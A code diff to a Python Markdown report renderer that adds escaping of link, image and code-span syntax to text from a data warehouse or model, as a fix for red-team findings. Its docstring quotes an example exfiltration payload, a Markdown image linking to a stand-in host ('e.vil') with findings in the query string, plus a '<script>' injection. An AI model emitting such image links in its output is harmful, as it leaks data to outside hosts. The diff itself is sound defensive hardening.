@@ -19,10 +19,15 @@ BADGE = {
 SEVERITY_ORDER = {"critical": 0, "high": 1, "medium": 2, "low": 3}
 
 
+_MD_SYNTAX = str.maketrans({c: "\\" + c for c in "\\[]`"})
+
+
 def _md(text: str) -> str:
     """Prose from the warehouse or a model as Markdown shows it: table pipes and HTML escaped (a category value
-    "<script>" reached the Markdown report and the Prefect artifact as a tag: session 23's red team)."""
-    return html.escape(text or "", quote=False).replace("|", "\\|").replace("\n", " ")
+    "<script>" reached the Markdown report and the Prefect artifact as a tag: session 23's red team), and link and
+    image syntax (``![](https://e.vil/p.png?d=...)`` would have a viewer fetch a URL that carries the findings:
+    red team 10) and code spans shown as written."""
+    return html.escape(text or "", quote=False).translate(_MD_SYNTAX).replace("|", "\\|").replace("\n", " ")
 
 
 def validation_line(i: Insight) -> str:
@@ -109,7 +114,7 @@ def render_markdown(r: DiscoveryResult) -> str:
     elif not r.recommendations:
         out.append("_No recommendations._")
     for rec in sorted(r.recommendations, key=lambda x: (x.priority, x.id)):
-        out.append(f"- **{rec.id}** (priority {rec.priority}, effort {rec.effort or '?'}) **{_md(rec.title)}**")
+        out.append(f"- **{rec.id}** (priority {rec.priority}, effort {_md(rec.effort) or '?'}) **{_md(rec.title)}**")
         if rec.description:
             out.append(f"  - {_md(rec.description)}")
         if rec.target_segment:
@@ -117,5 +122,5 @@ def render_markdown(r: DiscoveryResult) -> str:
             out.append(f"  - target: {_md(rec.target_segment)}{size}")
         if rec.expected_impact.metric:
             out.append(f"  - impact: {_md(rec.expected_impact.metric)} {_md(rec.expected_impact.estimated_improvement)}")
-        out.append(f"  - addresses: {', '.join(rec.related_insight_ids) or '-'}")
+        out.append(f"  - addresses: {_md(', '.join(rec.related_insight_ids)) or '-'}")
     return "\n".join(out) + "\n"
